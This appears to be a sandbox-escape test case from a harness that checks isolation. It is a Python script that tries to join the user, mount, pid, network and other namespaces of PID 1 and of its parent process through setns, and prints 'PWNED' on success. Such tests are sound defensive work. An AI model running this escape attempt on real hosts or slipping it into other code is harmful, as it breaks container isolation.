# /// attack
# category = "kernel-surface"
# kind = "stdio"
# success = "marker"
# expected = ["wrong_answer", "sandbox_violation"]
# summary = "Enters the namespaces of the service and of PID 1."
# ///

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for pid in ("{PARENT_PID}", "1", str(os.getppid())):
    try:
        handle = os.pidfd_open(int(pid))
        if libc.setns(handle, 0x7E020000) == 0:
            print("PWNED")
    except OSError as error:
        print("blocked", error)
    for kind in ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup"):
        try:
            descriptor = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        except OSError as error:
            print("blocked", error)
            continue
        if libc.setns(descriptor, 0) == 0:
            print("PWNED")
